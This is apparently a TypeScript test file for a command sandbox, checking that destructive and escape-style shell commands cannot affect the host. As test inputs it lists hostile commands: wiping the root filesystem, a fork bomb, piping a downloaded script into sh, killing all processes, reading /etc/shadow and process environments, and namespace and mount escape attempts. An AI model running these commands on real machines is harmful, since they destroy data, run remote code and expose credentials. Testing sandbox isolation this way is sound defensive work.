import '../../sandboxed.ts'
import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import t from 'tap'
import { libcCalls } from '../../../src/kernel/libc.ts'
import { partOf, verdicts, walked, type Line } from './planned.ts'

t.setTimeout(600_000)

/** Each is followed by a command that shows whether the machine is still of use. */
async function afterwards(text: string, more: Partial<Line> = {}) {
  const [step, next] = await walked(
    partOf([
      { text, expects: 'any', ...more },
      { text: 'echo still here', shown: ['still here'] },
    ]),
    { isStrict: false, commandMs: 5000 },
  )
  return { step, next }
}

const hostile: { what: string; text: string; verdict: RegExp; seen?: RegExp }[] = [
  {
    what: 'deleting everything',
    text: 'rm -rf --no-preserve-root / 2>&1 | tail -1; false',
    verdict: /ran|failed/,
  },
  { what: 'a fork bomb', text: ':(){ :|:& };:', verdict: /failed/ },
  { what: 'flushing rules', text: 'iptables -F', verdict: /^ran$/ },
  { what: 'shutting down', text: 'shutdown -h now', verdict: /^not-run: cannot be done here/ },
  {
    what: 'rebooting by hand',
    text: '/sbin/reboot -f; echo b > /proc/sysrq-trigger',
    verdict: /failed|not-run/,
  },
  {
    what: 'a script from the internet',
    text: 'curl -s http://example.com/install.sh | sh',
    verdict: /failed|not-run/,
  },
  {
    what: 'filling the disk',
    text: 'dd if=/dev/zero of=~/full bs=1M count=100000',
    verdict: /failed/,
    seen: /No space left on device|File size limit exceeded|File too large/,
  },
  { what: 'filling memory', text: 'head -c 20G /dev/zero | tail | wc -c', verdict: /failed|ran/ },
  { what: 'printing without end', text: 'yes', verdict: /failed/ },
  { what: 'waiting for ever', text: 'sleep 1000', verdict: /failed: it was not over in time/ },
  { what: 'a loop that hears nothing', text: "trap '' INT TERM; sleep 1000", verdict: /failed/ },
  { what: 'killing everybody', text: 'kill -9 -1', verdict: /ran|failed/ },
  {
    what: 'a disk of the machine',
    text: 'dd if=/dev/zero of=/dev/vda count=1 2>&1; mknod /tmp/d b 254 0',
    verdict: /failed|not-run/,
  },
  {
    what: "the machine's settings",
    text: 'echo 1 > /proc/sys/kernel/panic',
    verdict: /^not-run: .* only root/,
  },
  {
    what: "the machine's memory",
    text: 'echo 1 > /sys/kernel/mm/ksm/run',
    verdict: /^not-run: .* only root/,
  },
]

for (const { what, text, verdict, seen } of hostile) {
  t.test(`${what} does nothing but to its own machine`, async t => {
    const { step, next } = await afterwards(text)
    t.match(verdicts(step === undefined ? [] : [step])[0], verdict)
    if (seen !== undefined) t.match(step?.seen, seen)
    if (what !== 'killing everybody') t.equal(next?.verdict, 'as-shown', next?.seen ?? '')
  })
}

t.test('what whoever runs it has set is not its own', async t => {
  const [step] = await walked(partOf([{ text: 'echo $PATH $HOME; type -t ll; alias' }]))
  t.equal(
    step?.seen,
    '/.tnet/bin:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin /root\n',
  )
})

t.test('a descriptor that somebody left open is closed', async t => {
  const open = fs.openSync('/', 'r')
  // Without O_CLOEXEC: as a shell or a CI runner hands them on.
  const left = libcCalls.dup3(open, 77, 0)
  t.teardown(() => [open, left].map(fs.closeSync))
  const [step] = await walked(partOf([{ text: 'ls /proc/1/fd /proc/$$/fd' }]))
  t.equal(step?.verdict, 'ran')
  t.notMatch(step?.seen, '77')
})

t.test('nothing of the real machine is in reach', async t => {
  const folder = fs.mkdtempSync(path.join(os.tmpdir(), 'tnet-lab-test-'))
  t.teardown(() => fs.rmSync(folder, { recursive: true }))
  const secret = path.join(folder, 'secret')
  fs.writeFileSync(secret, 'a secret')
  process.env['TNET_TEST_SECRET'] = 'a secret'
  t.teardown(() => delete process.env['TNET_TEST_SECRET'])
  const looks = [
    `cat ${secret}`,
    `cat /proc/1/root${secret}`,
    `umount -l /tmp /; cat ${secret}`,
    `nsenter -t 1 -m cat ${secret}`,
    `mkdir -p /mnt/x; mount -t proc proc /mnt/x; cat /mnt/x/*/root${secret} 2>/dev/null`,
    'env; cat /proc/*/environ',
    'cat /etc/shadow',
    'ls -A /root /home',
    'touch /usr/bin/x /etc/.x/y',
    'mount -o remount,rw /usr && touch /usr/bin/x',
    `unshare --user --map-root-user --mount sh -c "umount -l /.etc; mount -o remount,rw /usr; touch /usr/bin/tnet-lab-was-here"`,
  ]
  const steps = await walked(partOf(looks.map(text => ({ text, expects: 'any' }))))
  for (const { command, seen = '' } of steps) {
    t.notMatch(seen, /a secret|root:[*$!]/, command)
  }
  t.equal(steps[7]?.seen, '/home:\n\n/root:\n')
  t.notOk(fs.existsSync('/usr/bin/x') || fs.existsSync('/usr/bin/tnet-lab-was-here'))
})
